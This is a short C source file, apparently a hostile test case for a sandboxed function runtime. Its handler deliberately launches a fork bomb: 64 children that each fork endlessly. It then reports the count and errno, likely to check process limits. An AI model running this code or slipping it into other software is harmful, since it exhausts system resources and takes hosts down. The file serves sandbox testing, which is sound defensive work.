/* Hostile: a fork bomb. Reports how many processes it managed to start. */
#include <sluice.h>
#include <errno.h>
#include <unistd.h>

int handler(const cJSON *event, sl_context *ctx, cJSON **result);

int
handler(const cJSON *event, sl_context *ctx, cJSON **result)
{
	int i, started = 0, err = 0;

	(void)event;
	(void)ctx;
	for (i = 0; i < 64; i++) {
		pid_t p = fork();

		if (p == 0) {
			for (;;)
				(void)fork();
		}
		if (p > 0)
			started++;
		else
			err = errno;
	}
	*result = cJSON_CreateObject();
	cJSON_AddNumberToObject(*result, "started", started);
	cJSON_AddNumberToObject(*result, "errno", err);
	return 0;
}
